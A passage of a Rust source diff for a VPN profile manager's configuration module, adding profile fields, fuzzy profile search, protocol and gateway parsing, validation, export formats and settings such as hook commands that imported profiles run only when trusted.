@@ -2,38 +2,1005 @@ use anyhow::Result;
 use quick_xml::de::from_str;
 use serde::{Deserialize, Serialize};
 use std::fs;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Config {
     pub profiles: Vec<VpnProfile>,
+    #[serde(default)]
     pub settings: Settings,
+    /// TUI preferences remembered between runs
+    #[serde(default)]
+    pub ui: UiState,
+    /// Named connect/disconnect/wait scripts run with `remipn run`
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub sequences: Vec<Sequence>,
+    /// Non-fatal problems found while loading (e.g. invalid colors)
+    #[serde(skip)]
+    pub load_warnings: Vec<String>,
+}
+
+/// The `[ui]` table: how the TUI looked when it was last changed
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct UiState {
+    pub sort_column: crate::app::SortColumn,
+    pub sort_direction: crate::app::SortDirection,
+    pub show_logs: bool,
+}
+
+/// A named list of steps, e.g.
+/// `steps = [{ connect = "A" }, { wait = 30 }, { disconnect = "A" }]`
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Sequence {
+    pub name: String,
+    pub steps: Vec<SequenceStep>,
+    /// Run the remaining steps after one fails instead of stopping
+    #[serde(default)]
+    pub keep_going: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SequenceStep {
+    /// Connect a profile by name or alias, disconnecting any other VPN
+    Connect(String),
+    Disconnect(String),
+    /// Pause for this many seconds
+    Wait(u64),
+}
+
+impl std::fmt::Display for SequenceStep {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            SequenceStep::Connect(name) => write!(f, "connect {}", name),
+            SequenceStep::Disconnect(name) => write!(f, "disconnect {}", name),
+            SequenceStep::Wait(secs) => write!(f, "wait {}s", secs),
+        }
+    }
+}
+
+/// Result of resolving a user-typed profile key
+#[derive(Debug)]
+pub enum ProfileMatch<'a> {
+    Found(&'a VpnProfile),
+    /// Several profiles match the key equally closely and none exactly
+    Ambiguous(Vec<&'a VpnProfile>),
+    NotFound,
+}
+
+/// See [`Config::match_profile`]
+pub fn match_profile<'a>(profiles: &'a [VpnProfile], key: &str) -> ProfileMatch<'a> {
+    if let Some(p) = profiles
+        .iter()
+        .find(|p| p.name == key || p.aliases.iter().any(|a| a == key))
+    {
+        return ProfileMatch::Found(p);
+    }
+
+    // Tiers from strictest to loosest; the first one with any match decides
+    let needle = key.to_lowercase();
+    let tiers: [&dyn Fn(&str) -> bool; 3] = [&|s| s == needle, &|s| s.starts_with(&needle), &|s| {
+        s.contains(&needle)
+    }];
+    for matches in tiers {
+        let candidates: Vec<&VpnProfile> = profiles
+            .iter()
+            .filter(|p| {
+                matches(&p.name.to_lowercase())
+                    || p.aliases.iter().any(|a| matches(&a.to_lowercase()))
+            })
+            .collect();
+        match candidates.len() {
+            0 => continue,
+            1 => return ProfileMatch::Found(candidates[0]),
+            _ => {
+                let mut candidates = candidates;
+                candidates.sort_by_key(|p| !p.favorite);
+                return ProfileMatch::Ambiguous(candidates);
+            }
+        }
+    }
+    ProfileMatch::NotFound
+}
+
+/// Score `candidate` as an in-order, case-insensitive subsequence match of
+/// `query`, rewarding consecutive characters and word starts. `None` when
+/// some query character can't be matched.
+pub fn fuzzy_score(candidate: &str, query: &str) -> Option<u32> {
+    fuzzy_match(candidate, query).map(|(score, _)| score)
+}
+
+/// [`fuzzy_score`] together with the char indices of `candidate` it matched
+fn fuzzy_match(candidate: &str, query: &str) -> Option<(u32, Vec<usize>)> {
+    let candidate: Vec<char> = candidate.to_lowercase().chars().collect();
+    let mut score = 0;
+    let mut pos = 0;
+    let mut matched = Vec::new();
+    for q in query.to_lowercase().chars().filter(|c| !c.is_whitespace()) {
+        let offset = candidate[pos..].iter().position(|&c| c == q)?;
+        let i = pos + offset;
+        score += 1;
+        if matched.last().is_some_and(|&last| last + 1 == i) {
+            score += 2;
+        }
+        if i == 0 || !candidate[i - 1].is_alphanumeric() {
+            score += 3;
+        }
+        matched.push(i);
+        pos = i + 1;
+    }
+    Some((score, matched))
+}
+
+/// Added to the score of a field that contains the query as typed, so
+/// substring matches always rank above looser fuzzy ones
+const SUBSTRING_BONUS: u32 = 1000;
+/// Added on top for a name or alias equal to the query
+const EXACT_BONUS: u32 = 1000;
+
+/// How well `profile` matches a TUI search, over its name, aliases, tags,
+/// gateway and username: exact name/alias matches first, then substring
+/// matches, then fuzzy (fzf-like subsequence) ones. `None` when no field
+/// matches at all.
+pub fn search_score(profile: &VpnProfile, query: &str) -> Option<u32> {
+    let query = query.trim().to_lowercase();
+    let identifiers = std::iter::once(profile.name.as_str()).chain(profile.aliases.as_deref());
+    let others = profile
+        .tags
+        .iter()
+        .map(String::as_str)
+        .chain(std::iter::once(profile.gateway_address.as_str()))
+        .chain(profile.username.as_deref());
+
+    identifiers
+        .clone()
+        .chain(others)
+        .filter_map(|field| {
+            let lower = field.to_lowercase();
+            let fuzzy = fuzzy_score(&lower, &query)?;
+            Some(if lower.contains(&query) {
+                SUBSTRING_BONUS + fuzzy
+            } else {
+                fuzzy
+            })
+        })
+        .max()
+        .map(|score| {
+            if identifiers.clone().any(|i| i.to_lowercase() == query) {
+                score + EXACT_BONUS
+            } else {
+                score
+            }
+        })
+}
+
+/// Char indices of `candidate` to highlight for `query`: the first
+/// occurrence when it contains the query, else the fuzzy match, else none
+pub fn match_positions(candidate: &str, query: &str) -> Vec<usize> {
+    let query = query.trim().to_lowercase();
+    if query.is_empty() {
+        return Vec::new();
+    }
+    let lower = candidate.to_lowercase();
+    if let Some(byte_start) = lower.find(&query) {
+        let start = lower[..byte_start].chars().count();
+        return (start..start + query.chars().count()).collect();
+    }
+    fuzzy_match(&lower, &query)
+        .map(|(_, positions)| positions)
+        .unwrap_or_default()
+}
+
+/// Pick a profile by fuzzy score over names and aliases. A single candidate
+/// is returned only when it clearly beats the runner-up, or is the only
+/// favorite among the best; otherwise the best few are returned as
+/// ambiguous, best (and favorites) first.
+pub fn fuzzy_match_profile<'a>(profiles: &'a [VpnProfile], key: &str) -> ProfileMatch<'a> {
+    let mut ranked: Vec<(&VpnProfile, u32)> = profiles
+        .iter()
+        .filter_map(|p| {
+            std::iter::once(p.name.as_str())
+                .chain(p.aliases.as_deref())
+                .filter_map(|c| fuzzy_score(c, key))
+                .max()
+                .map(|score| (p, score))
+        })
+        .collect();
+    ranked.sort_by(|a, b| {
+        b.1.cmp(&a.1)
+            .then_with(|| b.0.favorite.cmp(&a.0.favorite))
+            .then_with(|| a.0.name.cmp(&b.0.name))
+    });
+
+    // Every matched character scores at least 1, so twice the query length
+    // means most of it landed on runs or word starts
+    let threshold = 2 * key.chars().filter(|c| !c.is_whitespace()).count() as u32;
+    let clear_winner = match ranked.as_slice() {
+        [] => return ProfileMatch::NotFound,
+        [(best, score)] => (*score >= threshold).then_some(*best),
+        // A favorite wins a tie with profiles that aren't
+        [(best, score), (runner_up, second), ..] => (*score >= threshold
+            && (score - second >= 3 || (best.favorite && !runner_up.favorite)))
+            .then_some(*best),
+    };
+    match clear_winner {
+        Some(p) => ProfileMatch::Found(p),
+        None => ProfileMatch::Ambiguous(ranked.into_iter().take(3).map(|(p, _)| p).collect()),
+    }
+}
+
+/// `source` of profiles imported from the Azure VPN Client's container
+pub const SOURCE_AZURE_CLIENT: &str = "azure-client";
+/// `source` of profiles created in the TUI form
+pub const SOURCE_MANUAL: &str = "manual";
+
+/// Attribute freshly imported profiles to `source`
+pub fn with_source(mut profiles: Vec<VpnProfile>, source: &str) -> Vec<VpnProfile> {
+    for p in &mut profiles {
+        p.source = Some(source.to_string());
+    }
+    profiles
+}
+
+/// Counts of what an import did to the profile list
+#[derive(Debug, Clone, Default, PartialEq, Serialize)]
+pub struct ImportSummary {
+    pub added: usize,
+    pub updated: usize,
+    pub skipped: usize,
+    /// Names of the profiles added
+    pub added_names: Vec<String>,
+    /// Field-level changes made to existing profiles
+    pub changes: Vec<FieldChange>,
+}
+
+/// One field of an existing profile rewritten by an import
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct FieldChange {
+    pub profile: String,
+    pub field: &'static str,
+    pub old: String,
+    pub new: String,
+}
+
+impl std::fmt::Display for FieldChange {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}: {} → {}", self.field, self.old, self.new)
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct VpnProfile {
     pub name: String,
     pub gateway_address: String,
+    /// Kept in sync with the first tag so older configs and tools still
+    /// see it; `tags` is authoritative
     #[serde(default = "default_category")]
     pub category: String,
+    /// Free-form labels such as "prod" or "emea"
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
     pub cert_path: Option<String>,
     pub username: Option<String>,
     #[serde(default)]
     pub aliases: Option<String>,
-    pub protocol: String, // IKEv2, OpenVPN, etc.
+    pub protocol: Protocol,
     pub auto_connect: bool,
+    /// Disabled profiles are hidden from the list and never connected automatically
+    #[serde(default = "default_enabled")]
+    pub enabled: bool,
+    /// Listed above the other profiles whatever the sort
+    #[serde(default)]
+    pub favorite: bool,
+    /// Accent color for the profile name (named like "cyan" or hex "#ff8800")
+    #[serde(default)]
+    pub color: Option<String>,
+    /// Gateway port when it differs from the protocol's standard port
+    #[serde(default)]
+    pub port: Option<u16>,
+    /// Warn when a session's traffic (sent + received) exceeds this many MB
+    #[serde(default)]
+    pub data_cap_mb: Option<u64>,
+    /// Where the profile came from: an import file path, "azure-client" or "manual"
+    #[serde(default)]
+    pub source: Option<String>,
+    /// Per-attempt connect timeout, overriding the global setting
+    #[serde(default)]
+    pub connect_timeout_seconds: Option<u64>,
+    /// Connect retries after the first attempt, overriding the global setting
+    #[serde(default)]
+    pub max_retries: Option<u32>,
+    /// wg-quick config of a WireGuard profile (defaults to `cert_path` when
+    /// that is a `.conf` file)
+    #[serde(default)]
+    pub config_file: Option<String>,
+    /// When the profile last reached Connected, kept across runs
+    #[serde(default)]
+    pub last_connected: Option<chrono::DateTime<chrono::Local>>,
+    /// Shell command run before connecting; by default a failure aborts the connect
+    #[serde(default)]
+    pub pre_connect_cmd: Option<String>,
+    /// Shell command run once the tunnel is up, e.g. to flush DNS
+    #[serde(default)]
+    pub post_connect_cmd: Option<String>,
+    #[serde(default)]
+    pub pre_disconnect_cmd: Option<String>,
+    #[serde(default)]
+    pub post_disconnect_cmd: Option<String>,
+    /// Run the hooks of an imported profile. Profiles added by hand always
+    /// run theirs; imported ones could carry commands from someone else.
+    #[serde(default)]
+    pub trust_hooks: bool,
+}
+
+impl Default for VpnProfile {
+    fn default() -> Self {
+        Self {
+            name: String::new(),
+            gateway_address: String::new(),
+            category: default_category(),
+            tags: Vec::new(),
+            cert_path: None,
+            username: None,
+            aliases: None,
+            protocol: Protocol::IKEv2,
+            auto_connect: false,
+            enabled: true,
+            favorite: false,
+            color: None,
+            port: None,
+            data_cap_mb: None,
+            source: None,
+            connect_timeout_seconds: None,
+            max_retries: None,
+            config_file: None,
+            last_connected: None,
+            pre_connect_cmd: None,
+            post_connect_cmd: None,
+            pre_disconnect_cmd: None,
+            post_disconnect_cmd: None,
+            trust_hooks: false,
+        }
+    }
+}
+
+impl VpnProfile {
+    /// Whether any hook command is set
+    pub fn has_hooks(&self) -> bool {
+        [
+            &self.pre_connect_cmd,
+            &self.post_connect_cmd,
+            &self.pre_disconnect_cmd,
+            &self.post_disconnect_cmd,
+        ]
+        .iter()
+        .any(|cmd| cmd.as_deref().is_some_and(|c| !c.trim().is_empty()))
+    }
+
+    /// Hooks run for profiles added by hand (or predating `source`), and for
+    /// imported ones only once `trust_hooks` is set
+    pub fn hooks_allowed(&self) -> bool {
+        self.trust_hooks || self.source.as_deref().is_none_or(|s| s == SOURCE_MANUAL)
+    }
+
+    /// Replace the tags, keeping `category` pointing at the first one
+    pub fn set_tags(&mut self, tags: Vec<String>) {
+        self.category = tags.first().cloned().unwrap_or_else(default_category);
+        self.tags = tags;
+    }
+
+    /// Tags joined for display, or "-" without any
+    pub fn tags_display(&self) -> String {
+        if self.tags.is_empty() {
+            "-".to_string()
+        } else {
+            self.tags.join(", ")
+        }
+    }
+
+    /// Configs written before tags existed only have a category; carry it
+    /// over as the single tag
+    fn migrate_category(&mut self) {
+        if self.tags.is_empty()
+            && !self.category.trim().is_empty()
+            && self.category != default_category()
+        {
+            self.tags = vec![self.category.trim().to_string()];
+        }
+    }
+
+    /// When the profile was last connected, as clock time (with the date
+    /// when it isn't today), or "never"
+    pub fn last_connected_display(&self) -> String {
+        self.last_connected
+            .map(|t| DurationDisplay::Absolute.format(t))
+            .unwrap_or_else(|| "never".to_string())
+    }
+
+    /// Serialize this profile on its own, e.g. for sharing in chat
+    pub fn to_snippet(&self, format: SnippetFormat, redact_username: bool) -> Result<String> {
+        let mut profile = self.clone();
+        if redact_username {
+            profile.username = None;
+        }
+
+        match format {
+            SnippetFormat::Toml => {
+                #[derive(Serialize)]
+                struct Snippet<'a> {
+                    profiles: Vec<&'a VpnProfile>,
+                }
+                Ok(toml::to_string_pretty(&Snippet {
+                    profiles: vec![&profile],
+                })?)
+            }
+            SnippetFormat::Xml => Ok(profile.xml_element("")),
+        }
+    }
+
+    /// A `<VpnProfile>` element with the tags `import_from_xml` reads, each
+    /// line prefixed with `indent`
+    fn xml_element(&self, indent: &str) -> String {
+        use quick_xml::escape::escape;
+        format!(
+            "{i}<VpnProfile>\n{i}  <Name>{}</Name>\n{i}  <Server>{}</Server>\n{i}  <Protocol>{}</Protocol>\n{i}</VpnProfile>\n",
+            escape(&self.name),
+            escape(&self.gateway_display()),
+            escape(&self.protocol.to_string()),
+            i = indent
+        )
+    }
+
+    /// Parsed accent color, if one is set and valid
+    pub fn accent_color(&self) -> Option<ratatui::style::Color> {
+        self.color.as_deref().and_then(parse_color)
+    }
+
+    /// Gateway host without scheme or port
+    pub fn gateway_host(&self) -> String {
+        split_host_port(&self.gateway_address).0
+    }
+
+    /// Explicit port, falling back to the standard port for the protocol
+    pub fn gateway_port(&self) -> Option<u16> {
+        self.port
+            .or_else(|| split_host_port(&self.gateway_address).1)
+            .or_else(|| self.protocol.default_port())
+    }
+
+    /// Gateway as entered by the user, including a non-default port
+    pub fn gateway_display(&self) -> String {
+        match self.port {
+            Some(port) if self.gateway_host().contains(':') => {
+                format!("[{}]:{}", self.gateway_host(), port)
+            }
+            Some(port) => format!("{}:{}", self.gateway_host(), port),
+            None => self.gateway_address.clone(),
+        }
+    }
+
+    /// Move a port embedded in `gateway_address` into the `port` field
+    pub fn normalize_gateway(&mut self) {
+        let (host, port) = split_host_port(&self.gateway_address);
+        if let Some(port) = port {
+            self.port = Some(port);
+        }
+        self.gateway_address = host;
+    }
+
+    /// Check what would make the profile unconnectable: an empty name, a
+    /// gateway that isn't a hostname or IP (with an optional port), an
+    /// unknown protocol or a certificate file that doesn't exist
+    pub fn validate(&self) -> std::result::Result<(), Vec<ValidationError>> {
+        let mut errors = Vec::new();
+        let mut error = |field, message: &str| {
+            errors.push(ValidationError {
+                field,
+                message: message.to_string(),
+            })
+        };
+
+        if self.name.trim().is_empty() {
+            error(ProfileField::Name, "Name cannot be empty");
+        }
+
+        let (host, port) = split_host_port(&self.gateway_address);
+        if host.is_empty() {
+            error(ProfileField::Gateway, "Gateway cannot be empty");
+        } else if host.parse::<std::net::IpAddr>().is_err() && !is_valid_hostname(&host) {
+            error(
+                ProfileField::Gateway,
+                "Not a hostname or IP address (optionally with :port)",
+            );
+        }
+        if port.or(self.port) == Some(0) {
+            error(ProfileField::Gateway, "Port must be between 1 and 65535");
+        }
+
+        if !self.protocol.is_known() {
+            error(ProfileField::Protocol, "Unknown protocol");
+        }
+
+        if let Some(cert_path) = &self.cert_path
+            && !expand_home(Path::new(cert_path)).exists()
+        {
+            error(ProfileField::CertPath, "Certificate file not found");
+        }
+
+        if errors.is_empty() {
+            Ok(())
+        } else {
+            Err(errors)
+        }
+    }
+}
+
+/// Profile field a [`ValidationError`] is about
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ProfileField {
+    Name,
+    Gateway,
+    Protocol,
+    CertPath,
+}
+
+/// One problem found by [`VpnProfile::validate`]
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ValidationError {
+    pub field: ProfileField,
+    pub message: String,
+}
+
+impl std::fmt::Display for ValidationError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "{}", self.message)
+    }
+}
+
+/// DNS name rules: dot-separated labels of letters, digits and inner
+/// hyphens, at most 63 characters each and 253 in total
+fn is_valid_hostname(host: &str) -> bool {
+    let host = host.strip_suffix('.').unwrap_or(host);
+    !host.is_empty()
+        && host.len() <= 253
+        && host.split('.').all(|label| {
+            !label.is_empty()
+                && label.len() <= 63
+                && !label.starts_with('-')
+                && !label.ends_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        })
+}
+
+/// Replace a leading `~` with the home directory
+fn expand_home(path: &Path) -> PathBuf {
+    match (path.strip_prefix("~"), dirs::home_dir()) {
+        (Ok(rest), Some(home)) => home.join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+/// VPN protocol of a profile. Stored as its display string, so configs
+/// written when this was a free-form field still load; unrecognized names
+/// are kept as `Other`.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(from = "String", into = "String")]
+pub enum Protocol {
+    IKEv2,
+    OpenVpn,
+    WireGuard,
+    L2tp,
+    Sstp,
+    /// Cisco AnyConnect, connected with `openconnect`
+    AnyConnect,
+    Other(String),
+}
+
+impl Protocol {
+    /// Protocols offered by the profile form, in display order
+    pub const KNOWN: [Protocol; 6] = [
+        Protocol::IKEv2,
+        Protocol::OpenVpn,
+        Protocol::WireGuard,
+        Protocol::L2tp,
+        Protocol::Sstp,
+        Protocol::AnyConnect,
+    ];
+
+    /// Recognize a protocol name, ignoring case, spacing and dashes
+    pub fn parse(name: &str) -> Self {
+        let key: String = name
+            .chars()
+            .filter(|c| !c.is_whitespace() && *c != '-' && *c != '_')
+            .collect::<String>()
+            .to_lowercase();
+        match key.as_str() {
+            "ikev2" | "ike" => Protocol::IKEv2,
+            "openvpn" | "ovpn" => Protocol::OpenVpn,
+            "wireguard" | "wg" => Protocol::WireGuard,
+            "l2tp" | "l2tp/ipsec" => Protocol::L2tp,
+            "sstp" => Protocol::Sstp,
+            "anyconnect" | "ciscoanyconnect" | "openconnect" => Protocol::AnyConnect,
+            _ => Protocol::Other(name.trim().to_string()),
+        }
+    }
+
+    pub fn is_known(&self) -> bool {
+        !matches!(self, Protocol::Other(_))
+    }
+
+    /// Whether the tunnel runs over TCP, so its gateway port can be probed
+    /// with a plain connect. The others use UDP, which doesn't answer one.
+    pub fn uses_tcp(&self) -> bool {
+        matches!(self, Protocol::Sstp | Protocol::AnyConnect)
+    }
+
+    /// Standard port for the protocol, if known
+    pub fn default_port(&self) -> Option<u16> {
+        match self {
+            Protocol::IKEv2 => Some(500),
+            Protocol::OpenVpn => Some(1194),
+            Protocol::WireGuard => Some(51820),
+            Protocol::L2tp => Some(1701),
+            Protocol::Sstp | Protocol::AnyConnect => Some(443),
+            Protocol::Other(_) => None,
+        }
+    }
+
+    /// Next (or previous) entry of `KNOWN`; `Other` steps onto the first one
+    pub fn cycle(&self, forward: bool) -> Self {
+        let len = Self::KNOWN.len();
+        let next = match Self::KNOWN.iter().position(|p| p == self) {
+            Some(i) if forward => (i + 1) % len,
+            Some(i) => (i + len - 1) % len,
+            None => 0,
+        };
+        Self::KNOWN[next].clone()
+    }
+}
+
+impl std::fmt::Display for Protocol {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Protocol::IKEv2 => write!(f, "IKEv2"),
+            Protocol::OpenVpn => write!(f, "OpenVPN"),
+            Protocol::WireGuard => write!(f, "WireGuard"),
+            Protocol::L2tp => write!(f, "L2TP"),
+            Protocol::Sstp => write!(f, "SSTP"),
+            Protocol::AnyConnect => write!(f, "AnyConnect"),
+            Protocol::Other(name) => write!(f, "{}", name),
+        }
+    }
+}
+
+impl From<String> for Protocol {
+    fn from(name: String) -> Self {
+        Protocol::parse(&name)
+    }
+}
+
+impl From<Protocol> for String {
+    fn from(protocol: Protocol) -> Self {
+        protocol.to_string()
+    }
+}
+
+/// Split a gateway into host and optional port. Accepts `host`, `host:port`,
+/// bracketed IPv6 `[::1]:4500`, bare IPv6 and an optional `scheme://` prefix.
+pub fn split_host_port(addr: &str) -> (String, Option<u16>) {
+    let addr = addr.trim();
+    let addr = addr.split_once("://").map(|(_, rest)| rest).unwrap_or(addr);
+    let addr = addr.split('/').next().unwrap_or(addr);
+
+    if let Some(rest) = addr.strip_prefix('[')
+        && let Some((host, tail)) = rest.split_once(']')
+    {
+        let port = tail.strip_prefix(':').and_then(|p| p.parse().ok());
+        return (host.to_string(), port);
+    }
+
+    // More than one colon without brackets is a bare IPv6 address
+    if addr.matches(':').count() == 1
+        && let Some((host, port)) = addr.split_once(':')
+        && let Ok(port) = port.parse()
+    {
+        return (host.to_string(), Some(port));
+    }
+
+    (addr.to_string(), None)
+}
+
+pub fn parse_color(value: &str) -> Option<ratatui::style::Color> {
+    let value = value.trim();
+    if value.is_empty() {
+        return None;
+    }
+    value.to_lowercase().parse().ok()
+}
+
+/// Decode the text content of an XML element: CDATA sections are unwrapped
+/// verbatim and entities elsewhere (`&amp;`, `&#38;`, ...) are unescaped
+fn decode_xml_text(raw: &str) -> String {
+    let unescape = |text: &str| {
+        quick_xml::escape::unescape(text)
+            .map(|t| t.into_owned())
+            .unwrap_or_else(|_| text.to_string())
+    };
+
+    let mut out = String::new();
+    let mut rest = raw;
+    while let Some(start) = rest.find("<![CDATA[") {
+        out.push_str(&unescape(&rest[..start]));
+        let inner = &rest[start + "<![CDATA[".len()..];
+        match inner.find("]]>") {
+            Some(end) => {
+                out.push_str(&inner[..end]);
+                rest = &inner[end + "]]>".len()..];
+            }
+            None => {
+                out.push_str(inner);
+                rest = "";
+            }
+        }
+    }
+    out.push_str(&unescape(rest));
+    out.trim().to_string()
+}
+
+fn default_enabled() -> bool {
+    true
 }
 
 fn default_category() -> String {
     "Uncategorized".to_string()
 }
 
+/// Split comma-separated tags, dropping blanks and repeats
+pub fn parse_tags(input: &str) -> Vec<String> {
+    let mut tags: Vec<String> = Vec::new();
+    for tag in input.split(',').map(str::trim).filter(|t| !t.is_empty()) {
+        if !tags.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
+            tags.push(tag.to_string());
+        }
+    }
+    tags
+}
+
+/// Shortest status check interval or reconnect delay accepted
+pub const MIN_INTERVAL_SECONDS: u64 = 1;
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
 pub struct Settings {
     pub auto_reconnect: bool,
     pub reconnect_delay_seconds: u64,
     pub status_check_interval_seconds: u64,
     pub log_level: String,
+    /// Periodically check connected tunnels for IP changes and gateway reachability
+    pub verify_connections: bool,
+    pub verify_interval_seconds: u64,
+    /// Ring the bell and flash the screen when a tunnel drops unexpectedly
+    pub alert_on_drop: bool,
+    /// Recent search queries, most recent first
+    pub search_history: Vec<String>,
+    /// Disconnect a profile once it passes its `data_cap_mb`
+    pub disconnect_on_data_cap: bool,
+    /// Which identifier the profile table shows in its first column
+    pub display_primary: DisplayPrimary,
+    /// Leave the username out of profiles shared with `show` or copied from the TUI
+    pub redact_shared_username: bool,
+    /// How connection times are shown in the TUI list and `remipn list`
+    pub duration_display: DurationDisplay,
+    /// A profile left Connecting/Retrying this long without the system
+    /// confirming it is reset to timed out
+    pub connect_timeout_seconds: u64,
+    /// Refreshes in a row a Connected/Disconnected change must be seen on
+    /// before it is shown (and alerted on); 1 disables debouncing
+    pub status_debounce_refreshes: u32,
+    /// Show the last IP of disconnected profiles, dimmed
+    pub show_last_ip: bool,
+    /// Directories auto-import scans; empty means the default imports dir
+    pub auto_import_dirs: Vec<PathBuf>,
+    /// Also scan the Azure VPN Client's profile dir (macOS only)
+    pub auto_import_azure: bool,
+    /// Lines kept in history.jsonl; older events are dropped (0 keeps all)
+    pub history_max_lines: usize,
+    /// Connect retries after the first attempt
+    pub max_retries: u32,
+    /// Log lines the TUI keeps in memory for the logs panel and screen
+    pub max_log_lines: usize,
+    /// Keep other tunnels up when connecting instead of disconnecting them
+    pub allow_multiple_connections: bool,
+    /// After `remipn connect`, check that the public IP changed
+    pub check_public_ip: bool,
+    /// URL that answers with the caller's public IP as plain text
+    pub public_ip_endpoint: String,
+    /// Seconds a profile hook command may run before it is killed
+    pub hook_timeout_seconds: u64,
+    /// Abort the connect when a profile's `pre_connect_cmd` fails
+    pub abort_on_hook_failure: bool,
+    /// Carry on with the rest of a batch connect/disconnect (`C`/`D` in
+    /// the TUI) after a profile fails
+    pub batch_keep_going: bool,
+    /// Ask before connecting a profile from the TUI (disconnects never ask)
+    pub confirm_before_connect: bool,
+    /// After a profile connects in the TUI, warn when DNS or the default
+    /// route bypass its tunnel
+    pub check_dns_leak: bool,
+    /// Offer the kill switch (`K` in the TUI)
+    pub kill_switch: bool,
+    /// Only log the firewall rules the kill switch would install
+    pub kill_switch_dry_run: bool,
+}
+
+/// Retries and per-attempt timeout of one connect. Each comes from the
+/// command-line flag when given, else the profile, else the global settings.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ConnectPolicy {
+    pub retries: u32,
+    pub timeout_seconds: u64,
+}
+
+impl ConnectPolicy {
+    pub fn resolve(
+        retries: Option<u32>,
+        timeout_seconds: Option<u64>,
+        profile: &VpnProfile,
+        settings: &Settings,
+    ) -> Self {
+        Self {
+            retries: retries
+                .or(profile.max_retries)
+                .unwrap_or(settings.max_retries),
+            timeout_seconds: timeout_seconds
+                .or(profile.connect_timeout_seconds)
+                .unwrap_or(settings.connect_timeout_seconds),
+        }
+    }
+
+    pub fn timeout(self) -> std::time::Duration {
+        std::time::Duration::from_secs(self.timeout_seconds)
+    }
+}
+
+/// Presentation of a connection's start time
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum DurationDisplay {
+    /// Elapsed time, e.g. "42m"
+    #[default]
+    Relative,
+    /// Clock time, with the date when it isn't today
+    Absolute,
+    /// Clock time followed by the elapsed time
+    Both,
+}
+
+impl DurationDisplay {
+    pub fn format(self, since: chrono::DateTime<chrono::Local>) -> String {
+        let now = chrono::Local::now();
+        let relative = format!("{}m", now.signed_duration_since(since).num_minutes());
+        let absolute = if since.date_naive() == now.date_naive() {
+            since.format("%H:%M").to_string()
+        } else {
+            since.format("%Y-%m-%d %H:%M").to_string()
+        };
+        match self {
+            DurationDisplay::Relative => relative,
+            DurationDisplay::Absolute => absolute,
+            DurationDisplay::Both => format!("{} ({})", absolute, relative),
+        }
+    }
+
+    /// Column header for the chosen presentation
+    pub fn header(self) -> &'static str {
+        match self {
+            DurationDisplay::Relative => "Duration",
+            DurationDisplay::Absolute => "Connected at",
+            DurationDisplay::Both => "Connected",
+        }
+    }
+
+    /// Widest value `format` produces
+    pub fn width(self) -> u16 {
+        match self {
+            DurationDisplay::Relative => 10,
+            DurationDisplay::Absolute => 17,
+            DurationDisplay::Both => 25,
+        }
+    }
+}
+
+/// Formats `remipn export` writes the whole profile list in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
+pub enum ExportFormat {
+    /// The profiles as a JSON array with every field
+    Json,
+    /// `[[profiles]]` entries that can be pasted into a config file
+    #[default]
+    Toml,
+    /// A `<VpnSettings>` document that `import` reads back (name, gateway
+    /// and protocol only)
+    Xml,
+}
+
+/// Serialize `profiles` for backup or sharing
+pub fn export_profiles(profiles: &[VpnProfile], format: ExportFormat) -> Result<String> {
+    match format {
+        ExportFormat::Json => Ok(serde_json::to_string_pretty(profiles)? + "\n"),
+        ExportFormat::Toml => {
+            #[derive(Serialize)]
+            struct Export<'a> {
+                profiles: &'a [VpnProfile],
+            }
+            Ok(toml::to_string_pretty(&Export { profiles })?)
+        }
+        ExportFormat::Xml => {
+            let mut out = String::from("<VpnSettings>\n");
+            for profile in profiles {
+                out.push_str(&profile.xml_element("  "));
+            }
+            out.push_str("</VpnSettings>\n");
+            Ok(out)
+        }
+    }
+}
+
+/// Serialized forms a single profile can be shared in
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
+pub enum SnippetFormat {
+    /// A `[[profiles]]` entry that can be pasted into a config file
+    #[default]
+    Toml,
+    /// A `<VpnProfile>` element that `import` understands
+    Xml,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum DisplayPrimary {
+    #[default]
+    Name,
+    Alias,
+}
+
+impl DisplayPrimary {
+    pub fn toggle(self) -> Self {
+        match self {
+            DisplayPrimary::Name => DisplayPrimary::Alias,
+            DisplayPrimary::Alias => DisplayPrimary::Name,
+        }
+    }
+
+    /// The identifier shown first, falling back to the name when the profile
+    /// has no alias
+    pub fn primary(self, profile: &VpnProfile) -> &str {
+        match (self, profile.aliases.as_deref()) {
+            (DisplayPrimary::Alias, Some(alias)) if !alias.is_empty() => alias,
+            _ => &profile.name,
+        }
+    }
+
+    /// The other identifier, shown in the second column
+    pub fn secondary(self, profile: &VpnProfile) -> Option<&str> {
+        match self {
+            DisplayPrimary::Name => profile.aliases.as_deref().filter(|a| !a.is_empty()),
+            DisplayPrimary::Alias => {
